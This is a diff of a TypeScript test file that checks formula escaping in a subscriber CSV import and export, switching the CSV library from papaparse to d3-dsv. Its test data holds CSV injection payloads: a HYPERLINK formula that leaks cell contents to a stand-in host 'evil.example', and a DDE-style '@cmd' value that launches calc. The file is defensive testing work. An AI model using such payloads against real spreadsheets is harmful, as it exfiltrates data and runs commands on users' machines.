@@ -1,8 +1,8 @@
 // Issue 21, F4: CSV cells are escaped against formulas whatever they contain: a line break
-// anywhere in the cell (papaparse's own pattern misses it), leading whitespace, a tab or a line
+// anywhere in the cell (a pattern anchored on one line, as papaparse's was, misses it), leading whitespace, a tab or a line
 // break first; on export and in what an import reports back.
 import { env, exports } from "cloudflare:workers";
-import Papa from "papaparse";
+import { csvFormat, csvParse } from "d3-dsv";
 import { beforeEach, describe, expect, it } from "vitest";
 import { formulaSafe } from "../../src/subscriptions/lifecycle";
 import { resetDelivery } from "../delivery/helpers";
@@ -37,7 +37,7 @@ describe("formula escaping", () => {
     const email = uniqueEmail("csv");
     const page = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")\nsecond line';
     const spaced = " @cmd|' /C calc'!A0";
-    const csv = Papa.unparse({ fields: ["email", "consent", "consent_page"], data: [[email, "yes", page]] });
+    const csv = csvFormat([{ email, consent: "yes", consent_page: page }], ["email", "consent", "consent_page"]);
     const imported = await admin("/admin/subscribers/import", { method: "POST", headers: { "content-type": "text/csv" }, body: csv });
     expect(imported.status).toBe(200);
     expect((await subscriberRow(email))!.consent_page).toBe(page);
@@ -45,7 +45,7 @@ describe("formula escaping", () => {
 
     const res = await admin("/admin/subscribers.csv");
     const text = await res.text();
-    const rows = Papa.parse<Record<string, string>>(text.trim(), { header: true }).data;
+    const rows = csvParse(text.trim());
     const row = rows.find((r) => r.email === email)!;
     // Each dangerous cell starts with a quote, line break and all; the raw text has no cell starting with "=".
     expect(row.consent_page).toBe(`'${page}`);
